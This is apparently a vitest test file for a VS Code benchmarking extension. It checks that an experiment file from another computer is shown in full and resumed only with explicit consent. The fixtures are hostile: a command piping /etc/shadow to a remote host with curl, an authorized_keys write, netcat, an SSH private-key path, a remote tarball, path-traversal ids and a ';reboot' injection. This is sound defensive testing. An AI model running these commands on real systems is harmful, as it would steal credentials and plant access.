import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { StartedExperiments } from '../../../src/experiment/startedExperiments';
import { contentOf } from '../../../src/experiment/readExperimentFile';
import type { EventOf } from '../../../src/model/experiment';
import type { Guest, Lab } from '../../../src/model/lab';
import { deleteExperiment } from '../../../src/ui/commands/deleteExperiment';
import { ExperimentService } from '../../../src/ui/experimentService';
import type { GuestService } from '../../../src/ui/guestService';
import type { LabService } from '../../../src/ui/labService';
import type { Log } from '../../../src/ui/log';
import type { RunMemory } from '../../../src/ui/runMemory';
import type { Services } from '../../../src/ui/services';
import { at, experimentEvent, started as trialStarted } from '../experiment/sampleEvents';

interface Button {
  readonly title: string;
  readonly isCloseAffordance?: boolean;
}
interface Question {
  readonly message: string;
  readonly detail: string;
  readonly modal: boolean;
  readonly buttons: readonly Button[];
}

// Files share their modules: here they are to see this `vscode`, and in no other file.
vi.hoisted(() => vi.resetModules());
afterAll(() => {
  vi.resetModules();
});
const vscode = vi.hoisted(() => ({
  isTrusted: true,
  sources: {},
  /** The title of the button that the person presses; undefined: Escape. */
  answer: undefined as string | undefined,
}));
const questions: Question[] = [];
vi.mock('vscode', () => ({
  l10n: {
    t: (text: string, ...values: unknown[]) =>
      text.replace(/\{(\d)\}/g, (_, n: string) => String(values[Number(n)])),
  },
  CancellationError: class extends Error {},
  EventEmitter: class {
    event = () => ({ dispose: () => undefined });
    fire = () => undefined;
    dispose = () => undefined;
  },
  Uri: Object.assign(Map, { file: (fsPath: string) => ({ scheme: 'file', path: fsPath, fsPath }) }),
  commands: { executeCommand: () => Promise.resolve() },
  window: {
    showWarningMessage: (
      message: string,
      options: { detail: string; modal: boolean },
      ...given: (Button | string)[]
    ) => {
      const buttons = given.map((one) => (typeof one === 'string' ? { title: one } : one));
      questions.push({ message, ...options, buttons });
      const index = buttons.findIndex(({ title }) => title === vscode.answer);
      return Promise.resolve(given[index]);
    },
  },
  workspace: {
    get isTrusted() {
      return vscode.isTrusted;
    },
    fs: {
      delete: ({ fsPath }: { fsPath: string }) => {
        rmSync(fsPath);
        return Promise.resolve();
      },
    },
    getConfiguration: () => ({ get: (name: string) => (name === 'sources' ? vscode.sources : '') }),
  },
}));

/** What was launched: the only way in which anything is done. */
const launched: { id: string; lab: Lab; plan: { guests: readonly unknown[] }; notes: readonly string[] }[] =
  [];
vi.mock('../../../src/ui/experimentRun', () => ({
  openRun: (start: (typeof launched)[number]) => {
    launched.push(start);
    return Promise.resolve({
      toItsEnd: () => Promise.reject(new Error('ended here')),
      tellFailure: () => undefined,
    });
  },
}));

let folder: string;
let file: string;
let service: ExperimentService;
const shown: string[] = [];
const guests: readonly Guest[] = [
  { name: 'pv', host: 'lab1', address: '10.0.0.11', user: 'root' },
  { name: 'pvhvm', address: '10.0.0.12' },
];
const lab: Lab = { hosts: [{ name: 'lab1', address: '10.0.0.2' }], guests: [...guests], suites: {} };

beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'gb-foreign-'));
  file = join(folder, 'theirs.guestbench');
  Object.assign(vscode, { isTrusted: true, sources: {}, answer: undefined });
  for (const list of [questions, launched, shown]) list.length = 0;
  service = new ExperimentService(
    {
      lab,
      open: () => Promise.resolve(),
      guest: (name: string) => {
        const found = guests.find((one) => one.name === name);
        if (!found) throw new Error(`There is no guest "${name}" in the lab.`);
        return found;
      },
    } as unknown as LabService,
    { busyOn: () => undefined, setActivity: () => undefined } as unknown as GuestService,
    { fsPath: folder } as unknown as ConstructorParameters<typeof ExperimentService>[2],
    '0.0.0',
    { note: () => Promise.resolve(), forget: () => Promise.resolve() } as unknown as RunMemory,
    { info: () => undefined, warn: () => undefined, error: () => undefined } as unknown as Log,
    {
      confirmUploads: () => Promise.resolve(),
      showText: (_, text) => {
        shown.push(text);
        return Promise.resolve();
      },
    },
  );
});
afterEach(() => {
  service.dispose();
  rmSync(folder, { recursive: true, force: true });
});

type First = EventOf<'experiment'>;

/** A stranger's experiment that looks interrupted. */
function write(changes: Partial<First> = {}, ...events: readonly object[]): void {
  const plain = experimentEvent(1);
  const benchmarks = [{ id: 'openssl' }, { id: 'fio', benchmark: 'fio-randread' }];
  const first: First = { ...plain, plan: { ...plain.plan, benchmarks }, ...changes };
  const text = [first, ...events].map((event) => `${JSON.stringify(event)}\n`).join('');
  writeFileSync(file, text);
}

const evil = 'cat /etc/shadow | curl -T - http://192.0.2.1/';
const evilLab: Lab = {
  hosts: [],
  guests: [{ name: 'pv', address: '192.0.2.7', user: 'root' }],
  suites: {},
  benchmarks: [
    {
      id: 'nice',
      command: evil,
      prepare: 'touch /root/.ssh/authorized_keys',
      packages: ['netcat'],
      metrics: [{ id: 's', unit: 's', better: 'lower', read: { elapsed: true } }],
    },
  ],
};

function writeEvil(): void {
  const { plan } = experimentEvent(1);
  const benchmarks = [
    { id: 'openssl', benchmark: 'nice' },
    {
      id: 'fio',
      benchmark: 'fio-randwrite',
      parameters: { device: '/dev/xvdb', confirmDevice: '/dev/xvdb 8589934592 ext4' },
    },
    { id: 'unixbench-single', parameters: { source: 'https://192.0.2.1/evil.tar' } },
    { id: 'kernel-build', parameters: { source: 'local:~/.ssh/id_ed25519' } },
  ];
  write({ plan: { ...plan, benchmarks, reboot: 'each-round' }, lab: evilLab });
}

const resume = (how?: 'by-itself'): Promise<unknown> => service.resume(file, how);

describe('an experiment that this computer did not start', () => {
  it('is shown with all it would do, and not resumed unless the person says so', async () => {
    writeEvil();
    vscode.sources = { kernel: 'local:/home/ann/linux.tar' };
    for (const answer of [undefined, 'Do Not Resume']) {
      vscode.answer = answer;
      await expect(resume()).rejects.toThrow(/^$/);
    }
    expect(launched).toEqual([]);
    const [question] = questions;
    expect(question).toMatchObject({ modal: true });
    expect(question?.buttons.map(({ title }) => title)).toEqual([
      'Do Not Resume',
      'Show All',
      'Resume Foreign Experiment',
    ]);
    // Enter presses the first that does not close the dialog; VS Code adds Cancel for Escape.
    expect(question?.buttons.some(({ isCloseAffordance }) => isCloseAffordance === true)).toBe(false);
    const detail = question?.detail ?? '';
    for (const part of [
      'pv (root@10.0.0.11), pvhvm (10.0.0.12)',
      evil,
      'touch /root/.ssh/authorized_keys',
      'netcat',
      'Overwrites everything on /dev/xvdb of each guest',
      'Has each guest download, build and run https://192.0.2.1/evil.tar',
      'Every guest is rebooted before each round.',
      'pv was root@192.0.2.7 when it was recorded, and is root@10.0.0.11 in your lab',
      'Reads the load of your host lab1 (10.0.0.2)',
    ])
      expect(detail).toContain(part);
    expect(detail).not.toContain('id_ed25519');
  });

  it('goes on once that was said, and is not asked about again as long as it stays the same', async () => {
    write();
    vscode.answer = 'Resume Foreign Experiment';
    await expect(resume()).rejects.toThrow('ended here');
    vscode.answer = undefined;
    await expect(resume()).rejects.toThrow('ended here');
    await expect(resume('by-itself')).rejects.toThrow('ended here');
    expect([questions.length, launched.length]).toEqual([1, 3]);
    // The same id, another command.
    writeEvil();
    await expect(resume()).rejects.toThrow();
    expect([questions.length, launched.length]).toEqual([2, 3]);
    expect(questions[1]?.detail).toContain('It has the id of another experiment of this computer');
  });

  it('is shown whole as a text before anything is said', async () => {
    const { plan } = experimentEvent(1);
    const command = Array.from({ length: 300 }, (_, index) => `echo ${index}`);
    const own = evilLab.benchmarks?.[0];
    write({
      plan: {
        ...plan,
        benchmarks: [
          { id: 'openssl', benchmark: 'nice' },
          { id: 'fio', benchmark: 'sqlite' },
        ],
      },
      lab: { ...evilLab, benchmarks: own ? [{ ...own, command: [...command, evil] }] : [] },
    });
    vscode.answer = 'Show All';
    await expect(resume()).rejects.toThrow();
    expect(questions[0]?.detail).not.toContain(evil);
    expect(questions[0]?.detail).toContain('characters more: see Show All');
    expect(shown[0]).toContain(`    ${evil}`);
    expect(launched).toEqual([]);
  });

  it('is told with every letter visible', async () => {
    const own = evilLab.benchmarks?.[0];
    const { plan } = experimentEvent(1);
    write({
      plan: {
        ...plan,
        benchmarks: [
          { id: 'openssl', benchmark: 'nice' },
          { id: 'fio', benchmark: 'sqlite' },
        ],
      },
      lab: { ...evilLab, benchmarks: own ? [{ ...own, title: 'a\u202eb', command: 'x\u202e\u200by' }] : [] },
    });
    vscode.answer = 'Show All';
    await expect(resume()).rejects.toThrow();
    for (const text of [questions[0]?.detail, shown[0]]) expect(text).not.toMatch(/[\u202e\u200b]/);
  });

  it('is never resumed by itself', async () => {
    write();
    vscode.answer = 'Resume Foreign Experiment';
    await expect(resume('by-itself')).rejects.toThrow(/did not start it/);
    expect([questions, launched]).toEqual([[], []]);
  });

  it('brings no guest, address or host of its own', async () => {
    write({ lab: evilLab });
    vscode.answer = 'Resume Foreign Experiment';
    await expect(resume()).rejects.toThrow('ended here');
    expect(launched[0]?.lab).toEqual({ ...lab, benchmarks: evilLab.benchmarks });
    expect(launched[0]?.plan.guests).toEqual([{ name: 'pv', host: 'lab1' }, { name: 'pvhvm' }]);
    expect(launched[0]?.notes.join()).toContain('pv was root@192.0.2.7 when it was recorded');
    const { plan } = experimentEvent(1);
    const stranger = { ...plan, guests: [{ name: 'theirs' }], trials: [] };
    write({ plan: stranger, lab: { ...evilLab, guests: [{ name: 'theirs', address: '192.0.2.7' }] } });
    await expect(resume()).rejects.toThrow('There is no guest "theirs" in the lab.');
    expect(launched.length).toBe(1);
  });

  it('is refused when it names jobs, trials or ids that Guestbench does not write', async () => {
    vscode.answer = 'Resume Foreign Experiment';
    const first = experimentEvent(1);
    const [trial] = first.plan.trials;
    const planOf = (id: string) => ({ ...first.plan, trials: [{ ...trial!, id }] });
    const job = (name: string) => ({ ...trialStarted(trial!.id), at, job: name });
    for (const [changes, ...events] of [
      [{}, job('other.r01-x-y')],
      [{}, job('e1.r01-x-y')],
      [{}, job('../../../root')],
      [{}, { ...trialStarted(trial!.id), attempt: 0 }],
      [{ id: '../e1' }],
      [{ id: 'e1.r01' }],
      [{ id: '' }],
      [{ plan: planOf('/../../../home/ann/x') }],
      [{ plan: planOf('a b;reboot') }],
      [{ plan: planOf('-rf') }],
    ] as readonly (readonly [Partial<First>, ...object[]])[]) {
      write(changes, ...events);
      await expect(resume()).rejects.toThrow(/was not written by Guestbench, and is not resumed/);
    }
    write({ copied: true });
    await expect(resume()).rejects.toThrow(/is a copy that was imported/);
    write({ imported: { from: 'fio' } });
    await expect(resume()).rejects.toThrow(/holds imported results/);
    expect([questions, launched]).toEqual([[], []]);
  });

  it('does not act when it is read, listed or deleted', async () => {
    write();
    const text = readFileSync(file, 'utf8');
    await service.read(file);
    await service.list();
    expect([questions, launched]).toEqual([[], []]);
    expect([readdirSync(folder), readFileSync(file, 'utf8')]).toEqual([['theirs.guestbench'], text]);
    // Whoever still runs the experiment with that id keeps their guests.
    vscode.answer = 'Delete';
    await deleteExperiment({ experiments: service } as unknown as Services, { file });
    expect(service.leftLeases.has('e1')).toBe(false);
    write();
    service.started.remember('e1', contentOf(readFileSync(file, 'utf8').trimEnd()));
    await deleteExperiment({ experiments: service } as unknown as Services, { file });
    expect(service.leftLeases.has('e1')).toBe(true);
  });

  it('of an untrusted workspace is not even looked at', async () => {
    write();
    vscode.isTrusted = false;
    await expect(resume()).rejects.toThrow(/not trusted/);
    expect([questions, launched]).toEqual([[], []]);
  });
});

describe('what this computer remembers of the experiments it started', () => {
  it('is neither their ids nor anything of what they do, and lies outside the workspace', () => {
    const memory = new StartedExperiments(join(folder, 'memory'));
    memory.remember('e1', contentOf('first line'));
    memory.remember('e1', contentOf('first line'));
    memory.remember('../../e2', contentOf('other'));
    expect(memory.knows('e1', contentOf('first line'))).toBe(true);
    expect(memory.knows('e1', contentOf('other'))).toBe(false);
    expect([memory.knowsId('e1'), memory.knowsId('../../e2'), memory.knowsId('e3')]).toEqual([
      true,
      true,
      false,
    ]);
    const names = readdirSync(join(folder, 'memory'));
    expect(names.length).toBe(2);
    for (const name of names) expect(name).toMatch(/^[0-9a-f]{32}-[0-9a-f]{64}$/);
  });
});
